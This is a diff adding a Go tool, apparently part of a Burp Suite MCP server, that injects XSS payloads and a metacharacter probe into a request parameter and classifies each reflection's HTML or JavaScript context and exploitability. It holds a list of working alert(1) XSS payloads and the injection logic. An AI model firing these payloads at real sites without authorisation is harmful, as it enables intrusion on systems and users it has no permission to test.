@@ -0,0 +1,504 @@
+package tools
+
+import (
+	"context"
+	"fmt"
+	"net/url"
+	"regexp"
+	"slices"
+	"strings"
+
+	"github.com/c0tton-fluff/burp-mcp-server/internal/burp"
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+)
+
+const (
+	// maxXSSReflections caps the reflections reported per payload.
+	maxXSSReflections = 5
+	// maxXSSPayloads caps custom payloads per call.
+	maxXSSPayloads = 30
+	// xssMetaProbe carries every metacharacter that matters for breaking
+	// out of a context. It is a probe, not an exploit, so it never
+	// counts as executing.
+	xssMetaProbe = "'\"<>`()/\\;={}"
+)
+
+// xssPayloads cover the common contexts: markup, quoted and unquoted
+// attributes, URL attributes, JavaScript strings, and raw text elements.
+var xssPayloads = []string{
+	`<svg onload=alert(1)>`,
+	`'"><img src=x onerror=alert(1)>`,
+	`" autofocus onfocus="alert(1)`,
+	`' autofocus onfocus='alert(1)`,
+	` autofocus onfocus=alert(1) `,
+	`javascript:alert(1)`,
+	`'-alert(1)-'`,
+	`"-alert(1)-"`,
+	"`-alert(1)-`",
+	`</script><svg onload=alert(1)>`,
+	`--></title></textarea></style></noscript><svg onload=alert(1)>`,
+}
+
+// xssMetachars are reported individually as surviving or encoded.
+var xssMetachars = []string{"<", ">", `"`, "'", "`", "(", ")", "/", `\`, ";", "=", "{", "}"}
+
+// xssRawTextOpen matches the opening tag of elements whose content is not
+// parsed as markup.
+var xssRawTextOpen = regexp.MustCompile(`(?i)<(script|style|textarea|title|noscript|xmp)\b[^>]*>`)
+
+// xssURLAttrs are attributes whose value is navigated to or loaded.
+var xssURLAttrs = map[string]bool{
+	"href": true, "src": true, "action": true, "formaction": true, "data": true,
+	"xlink:href": true, "poster": true, "background": true, "srcdoc": true,
+}
+
+// XSSVerifyInput is the input for burp_xss_verify.
+type XSSVerifyInput struct {
+	Raw           string   `json:"raw" jsonschema:"required,Raw HTTP request whose parameter or path segment is reflected in the response"`
+	Param         string   `json:"param,omitempty" jsonschema:"Parameter to inject into (query or form body). One of param or pathSegment is required"`
+	In            string   `json:"in,omitempty" jsonschema:"Where param lives: query or body (form-encoded). Default: wherever it already is, else query"`
+	PathSegment   int      `json:"pathSegment,omitempty" jsonschema:"1-based path segment to inject into instead of a parameter"`
+	Payloads      []string `json:"payloads,omitempty" jsonschema:"Payloads to try instead of the built-in set (max 30). The metacharacter probe always runs"`
+	Host          string   `json:"host,omitempty" jsonschema:"Target host (overrides Host header)"`
+	Port          int      `json:"port,omitempty" jsonschema:"Target port (default based on TLS)"`
+	TLS           *bool    `json:"tls,omitempty" jsonschema:"Use HTTPS (default true)"`
+	HeaderProfile string   `json:"headerProfile,omitempty" jsonschema:"Header rule profile from config (default: 'default')"`
+	Instance      string   `json:"instance,omitempty" jsonschema:"Named Burp instance from config (default: the --burp-url connection)"`
+}
+
+// XSSReflection is one place a payload came back and how it was rendered.
+type XSSReflection struct {
+	// Context is html, html-comment, tag, attribute-double, attribute-single,
+	// attribute-unquoted, url, event-handler, css, rcdata, js,
+	// js-string-single, js-string-double, js-template, or js-comment.
+	Context   string `json:"context"`
+	Tag       string `json:"tag,omitempty"`
+	Attribute string `json:"attribute,omitempty"`
+	Reflected string `json:"reflected"`
+	// Partial is set when the end canary is missing: the payload was cut
+	// short or part of it was stripped.
+	Partial  bool     `json:"partial,omitempty"`
+	Survived []string `json:"survived,omitempty"`
+	Encoded  []string `json:"encoded,omitempty"`
+	// Verdict is executes (payload intact and it breaks out of the
+	// context), breakout (breakout characters survive but the payload was
+	// altered), encoded (the breakout characters were encoded or
+	// stripped), or wrong-context (the payload has no way out of this
+	// context).
+	Verdict string `json:"verdict"`
+}
+
+// XSSCheck is the outcome of one payload.
+type XSSCheck struct {
+	Payload     string          `json:"payload"`
+	StatusCode  int             `json:"statusCode,omitempty"`
+	ContentType string          `json:"contentType,omitempty"`
+	Reflections []XSSReflection `json:"reflections,omitempty"`
+	// Verdict is the best reflection verdict, not-reflected, or
+	// not-rendered when the response isn't HTML.
+	Verdict string `json:"verdict,omitempty"`
+	Error   string `json:"error,omitempty"`
+}
+
+// XSSVerifyOutput is the output of burp_xss_verify.
+type XSSVerifyOutput struct {
+	Canary   string     `json:"canary"`
+	Checks   []XSSCheck `json:"checks"`
+	Findings []string   `json:"findings"`
+}
+
+func xssVerifyHandler(client *burp.Client) func(context.Context, *mcp.CallToolRequest, XSSVerifyInput) (*mcp.CallToolResult, XSSVerifyOutput, error) {
+	return func(ctx context.Context, _ *mcp.CallToolRequest, input XSSVerifyInput) (*mcp.CallToolResult, XSSVerifyOutput, error) {
+		ctx = burp.WithInstance(ctx, input.Instance)
+
+		if (input.Param == "") == (input.PathSegment == 0) {
+			return nil, XSSVerifyOutput{}, fmt.Errorf("exactly one of param or pathSegment is required")
+		}
+		if len(input.Payloads) > maxXSSPayloads {
+			return nil, XSSVerifyOutput{}, fmt.Errorf("at most %d payloads", maxXSSPayloads)
+		}
+		rawNorm, parsed, err := prepareRequest(input.Raw, input.HeaderProfile)
+		if err != nil {
+			return nil, XSSVerifyOutput{}, err
+		}
+		t, err := resolveTarget(input.Host, input.Port, input.TLS, parsed.Host)
+		if err != nil {
+			return nil, XSSVerifyOutput{}, err
+		}
+
+		inject := func(value string) (string, error) {
+			if input.PathSegment > 0 {
+				value = url.PathEscape(value)
+			} else {
+				value = url.QueryEscape(value)
+			}
+			return injectAt(rawNorm, input.Param, input.In, input.PathSegment, value)
+		}
+		if _, err := inject(""); err != nil {
+			return nil, XSSVerifyOutput{}, err
+		}
+
+		payloads := xssPayloads
+		if len(input.Payloads) > 0 {
+			payloads = input.Payloads
+		}
+		payloads = append([]string{xssMetaProbe}, payloads...)
+		token := cacheToken()
+
+		checks := make([]XSSCheck, len(payloads))
+		parallel(len(payloads), func(i int) {
+			start, end := xssCanaries(token, i)
+			checks[i] = XSSCheck{Payload: payloads[i]}
+			req, err := inject(start + payloads[i] + end)
+			if err != nil {
+				checks[i].Error = err.Error()
+				return
+			}
+			resp, err := sendParsed(ctx, client, req, t, 0)
+			if err != nil {
+				checks[i].Error = err.Error()
+				return
+			}
+			checks[i].StatusCode = resp.StatusCode
+			checks[i].ContentType = burp.GetHeader(resp.Headers, "Content-Type")
+			checks[i].Reflections = xssReflections(resp.Body, payloads[i], start, end, i > 0)
+			checks[i].Verdict = xssCheckVerdict(checks[i])
+		})
+
+		return nil, XSSVerifyOutput{Canary: token, Checks: checks, Findings: xssFindings(checks)}, nil
+	}
+}
+
+// xssCanaries returns the alphanumeric markers placed around payload i, so
+// its reflections can be found and cut out whatever the encoding.
+func xssCanaries(token string, i int) (start, end string) {
+	return fmt.Sprintf("xs%s%02d", token, i), fmt.Sprintf("xe%s%02d", token, i)
+}
+
+// xssReflections finds each reflection of the canaried payload in body and
+// classifies it. exploit is false for the metacharacter probe.
+func xssReflections(body, payload, start, end string, exploit bool) []XSSReflection {
+	var out []XSSReflection
+	for off := 0; len(out) < maxXSSReflections; {
+		i := strings.Index(body[off:], start)
+		if i < 0 {
+			break
+		}
+		pos := off + i
+		rest := body[pos+len(start):]
+		r := XSSReflection{}
+		if j := strings.Index(rest, end); j >= 0 && j <= 4*len(payload)+256 {
+			r.Reflected = rest[:j]
+		} else {
+			r.Reflected = rest[:min(len(rest), len(payload)+32)]
+			r.Partial = true
+		}
+		r.Context, r.Tag, r.Attribute = xssContext(body, pos)
+		r.Survived, r.Encoded = xssMetaSurvival(payload, r.Reflected)
+		r.Verdict = xssVerdict(r, payload, exploit)
+		out = append(out, r)
+		off = pos + len(start)
+	}
+	return out
+}
+
+// xssContext classifies where pos falls in an HTML document.
+func xssContext(body string, pos int) (ctx, tag, attr string) {
+	pre := body[:pos]
+	lower := strings.ToLower(pre)
+
+	rawStart, rawTag := -1, ""
+	if m := xssRawTextOpen.FindAllStringSubmatchIndex(pre, -1); len(m) > 0 {
+		last := m[len(m)-1]
+		name := strings.ToLower(pre[last[2]:last[3]])
+		if !strings.Contains(lower[last[1]:], "</"+name) {
+			rawStart, rawTag = last[1], name
+		}
+	}
+	if c := strings.LastIndex(lower, "<!--"); c > rawStart && !strings.Contains(lower[c:], "-->") {
+		return "html-comment", "", ""
+	}
+	switch rawTag {
+	case "script":
+		return xssJSState(pre[rawStart:]), "script", ""
+	case "style":
+		return "css", "style", ""
+	case "":
+	default:
+		return "rcdata", rawTag, ""
+	}
+
+	lt, gt := strings.LastIndex(pre, "<"), strings.LastIndex(pre, ">")
+	if lt < 0 || lt < gt || lt+1 >= len(pre) || !isASCIILetter(pre[lt+1]) {
+		return "html", "", ""
+	}
+	return xssTagState(pre[lt+1:])
+}
+
+func isASCIILetter(c byte) bool {
+	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
+}
+
+// xssTagState classifies the end of an unfinished start tag (without the
+// leading "<"): in the tag itself or inside an attribute value.
+func xssTagState(s string) (ctx, tag, attr string) {
+	isSpace := func(c byte) bool { return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' }
+	i := 0
+	for i < len(s) && !isSpace(s[i]) && s[i] != '/' {
+		i++
+	}
+	tag = strings.ToLower(s[:i])
+	for i < len(s) {
+		for i < len(s) && (isSpace(s[i]) || s[i] == '/') {
+			i++
+		}
+		nameStart := i
+		for i < len(s) && !isSpace(s[i]) && s[i] != '=' && s[i] != '/' {
+			i++
+		}
+		name := strings.ToLower(s[nameStart:i])
+		for i < len(s) && isSpace(s[i]) {
+			i++
+		}
+		if i >= len(s) || s[i] != '=' {
+			continue
+		}
+		i++
+		for i < len(s) && isSpace(s[i]) {
+			i++
+		}
+		if i >= len(s) {
+			return xssAttrContext(name, "unquoted", ""), tag, name
+		}
+		if q := s[i]; q == '"' || q == '\'' {
+			closing := strings.IndexByte(s[i+1:], q)
+			if closing < 0 {
+				quote := map[byte]string{'"': "double", '\'': "single"}[q]
+				return xssAttrContext(name, quote, s[i+1:]), tag, name
+			}
+			i += closing + 2
+			continue
+		}
+		valueStart := i
+		for i < len(s) && !isSpace(s[i]) {
+			i++
+		}
+		if i >= len(s) {
+			return xssAttrContext(name, "unquoted", s[valueStart:]), tag, name
+		}
+	}
+	return "tag", tag, ""
+}
+
+// xssAttrContext names the context inside an attribute value.
+func xssAttrContext(name, quote, before string) string {
+	switch {
+	case strings.HasPrefix(name, "on"):
+		return "event-handler"
+	case name == "style":
+		return "css"
+	case xssURLAttrs[name] && strings.TrimSpace(before) == "":
+		return "url"
+	}
+	return "attribute-" + quote
+}
+
+// xssJSState reports whether the end of a script is in code, a string
+// literal, or a comment.
+func xssJSState(script string) string {
+	state := "js"
+	for i := 0; i < len(script); i++ {
+		c := script[i]
+		switch state {
+		case "js":
+			switch {
+			case c == '\'':
+				state = "js-string-single"
+			case c == '"':
+				state = "js-string-double"
+			case c == '`':
+				state = "js-template"
+			case c == '/' && i+1 < len(script) && script[i+1] == '/':
+				state = "js-line-comment"
+			case c == '/' && i+1 < len(script) && script[i+1] == '*':
+				state, i = "js-comment", i+1
+			}
+		case "js-line-comment":
+			if c == '\n' {
+				state = "js"
+			}
+		case "js-comment":
+			if c == '*' && i+1 < len(script) && script[i+1] == '/' {
+				state, i = "js", i+1
+			}
+		default:
+			if c == '\\' {
+				i++
+			} else if state == "js-string-single" && c == '\'' || state == "js-string-double" && c == '"' || state == "js-template" && c == '`' {
+				state = "js"
+			}
+		}
+	}
+	if state == "js-line-comment" {
+		return "js-comment"
+	}
+	return state
+}
+
+// xssBreakouts lists the sequences that leave (or, for code contexts,
+// act within) a context. Any one surviving is enough.
+func xssBreakouts(r XSSReflection) []string {
+	switch r.Context {
+	case "html":
+		return []string{"<"}
+	case "html-comment":
+		return []string{"-->", "--!>"}
+	case "tag":
+		return []string{" ", "/", ">"}
+	case "attribute-double":
+		return []string{`"`}
+	case "attribute-single":
+		return []string{"'"}
+	case "attribute-unquoted":
+		return []string{" ", ">"}
+	case "url":
+		return []string{"javascript:"}
+	case "event-handler":
+		return []string{"(", "'", `"`}
+	case "css":
+		return []string{"</style", `"`, "'"}
+	case "rcdata":
+		return []string{"</" + r.Tag}
+	case "js", "js-comment":
+		return []string{"</script", "(", "\n"}
+	case "js-string-single":
+		return []string{"'", "</script"}
+	case "js-string-double":
+		return []string{`"`, "</script"}
+	case "js-template":
+		return []string{"`", "${", "</script"}
+	}
+	return nil
+}
+
+// xssVerdict rates one reflection of payload.
+func xssVerdict(r XSSReflection, payload string, exploit bool) string {
+	lowerPayload, lowerReflected := strings.ToLower(payload), strings.ToLower(r.Reflected)
+	carried, survived := false, false
+	for _, b := range xssBreakouts(r) {
+		if strings.Contains(lowerPayload, b) {
+			carried = true
+			if strings.Contains(lowerReflected, b) {
+				survived = true
+			}
+		}
+	}
+	switch {
+	case !carried:
+		return "wrong-context"
+	case !survived:
+		return "encoded"
+	case exploit && !r.Partial && r.Reflected == payload:
+		return "executes"
+	}
+	return "breakout"
+}
+
+// xssVerdictRank orders verdicts from most to least severe.
+var xssVerdictRank = []string{"executes", "breakout", "encoded", "wrong-context", "not-reflected"}
+
+// xssCheckVerdict picks the most severe reflection verdict. A response that
+// isn't HTML isn't rendered, whatever survived.
+func xssCheckVerdict(c XSSCheck) string {
+	if len(c.Reflections) == 0 {
+		return "not-reflected"
+	}
+	ct := strings.ToLower(c.ContentType)
+	if ct != "" && !strings.Contains(ct, "html") && !strings.Contains(ct, "xml") {
+		return "not-rendered"
+	}
+	best := len(xssVerdictRank) - 1
+	for _, r := range c.Reflections {
+		if i := slices.Index(xssVerdictRank, r.Verdict); i >= 0 && i < best {
+			best = i
+		}
+	}
+	return xssVerdictRank[best]
+}
+
+// xssMetaSurvival splits the metacharacters in payload into those that
+// come back unchanged in reflected and those that don't.
+func xssMetaSurvival(payload, reflected string) (survived, encoded []string) {
+	for _, m := range xssMetachars {
+		n := strings.Count(payload, m)
+		if n == 0 {
+			continue
+		}
+		if strings.Count(reflected, m) >= n {
+			survived = append(survived, m)
+		} else {
+			encoded = append(encoded, m)
+		}
+	}
+	return survived, encoded
+}
+
+// xssFindings summarizes executing payloads, then contexts where breakout
+// characters survive without a working payload.
+func xssFindings(checks []XSSCheck) []string {
+	findings := []string{}
+	executes := map[string]bool{}
+	for _, c := range checks {
+		if c.Verdict != "executes" {
+			continue
+		}
+		for _, r := range c.Reflections {
+			if r.Verdict == "executes" {
+				executes[r.Context] = true
+				findings = append(findings, fmt.Sprintf("%s executes in %s context%s", c.Payload, r.Context, xssWhere(r)))
+				break
+			}
+		}
+	}
+	seen := map[string]bool{}
+	for _, c := range checks {
+		if c.Verdict != "breakout" && c.Verdict != "executes" {
+			continue
+		}
+		for _, r := range c.Reflections {
+			if r.Verdict != "breakout" || executes[r.Context] || seen[r.Context] {
+				continue
+			}
+			seen[r.Context] = true
+			findings = append(findings, fmt.Sprintf("Breakout characters survive in %s context%s (surviving: %s); craft a payload for it", r.Context, xssWhere(r), strings.Join(r.Survived, " ")))
+		}
+	}
+	for _, c := range checks {
+		if c.Verdict == "not-rendered" {
+			findings = append(findings, fmt.Sprintf("Reflected in a %s response, which browsers don't render as HTML", c.ContentType))
+			break
+		}
+	}
+	return findings
+}
+
+func xssWhere(r XSSReflection) string {
+	switch {
+	case r.Attribute != "":
+		return fmt.Sprintf(" (<%s %s=...>)", r.Tag, r.Attribute)
+	case r.Tag != "":
+		return fmt.Sprintf(" (<%s>)", r.Tag)
+	}
+	return ""
+}
+
+// RegisterXSSVerifyTool registers the burp_xss_verify tool.
+func RegisterXSSVerifyTool(server *mcp.Server, client *burp.Client) {
+	addTool(server, &mcp.Tool{
+		Name: "burp_xss_verify",
+		Description: `Inject a metacharacter probe and XSS payloads, each wrapped in unique canaries, into a parameter or path segment. ` +
+			`For every reflection, report the context it lands in (HTML, comment, tag, quoted/unquoted attribute, URL attribute, event handler, CSS, textarea/title, script code, JS string or template literal), which metacharacters survived encoding, and a verdict: executes, breakout, encoded, or wrong-context. ` +
+			`Responses that aren't HTML are marked not-rendered. ` +
+			`Returns {canary, checks: [{payload, statusCode, contentType, reflections: [{context, tag, attribute, reflected, partial, survived, encoded, verdict}], verdict}], findings}.`,
+	}, xssVerifyHandler(client))
+}